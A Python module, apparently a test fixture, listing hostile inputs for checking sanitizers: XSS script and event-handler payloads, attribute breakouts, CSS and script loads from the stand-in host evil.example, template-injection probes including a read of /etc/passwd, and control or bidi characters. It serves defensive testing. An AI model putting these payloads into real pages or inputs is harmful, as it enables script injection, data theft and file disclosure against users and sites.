"""What an article, a file name or a model's answer might hold to get something run, shown or loaded.

Whatever runs, sets `window.ran`; whatever loads, asks for an address under `evil.example`.
"""

_RUN = "window.ran=1"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</p></div></article><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x00>{_RUN}</script>",
    f"<\x00script>{_RUN}</script>",
    f"<script type=module>{_RUN}</script>",
    f'<noscript><p title="</noscript><script>{_RUN}</script>">',
    f"<template><script>{_RUN}</script></template>",
    f"＜script＞{_RUN}＜/script＞",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
)

MARKUP = (
    f"<img src=x onerror={_RUN}>",
    "<img src=//evil.example/p.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><img src=x onerror={_RUN}>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f'<a href="javascript:{_RUN}">x</a>',
    "<form action=//evil.example><button>x</button></form>",
)

ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f"` onmouseover={_RUN} `",
    f"javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"jAvAsCrIpT&colon;{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    '#" onclick="window.ran=1',
    'http://evil.example/" onclick="window.ran=1',
)

STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/p.png)">',
    "</style><style>body{display:none}</style>",
    "}body{background:url(//evil.example/q.png)}",
)

TEMPLATES = (
    "{{ 7 * 7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ x }}",
    "${window.ran=1}`${window.ran=1}`",
    "<%= window.ran=1 %>",
    "{# a comment",
)

SIGNS = (
    "\x00\x01\x07\x08\x0b\x0c\x1b[2J\x1b]0;owned\x07\x7f\x9b1m",
    "\ud800 a lone surrogate \udfff and \udc80",
    "\u202eevil txt.exe\u202c \u2067 \u2066 \u2069",
    "\ufeff\ufffe\uffff\ufdd0 noncharacters",
    "a\u0300\u0301\u0302\u0303\u0304" * 40,
)

HOSTILE = (*SCRIPTS, *MARKUP, *ATTRIBUTES, *STYLES, *TEMPLATES, *SIGNS)
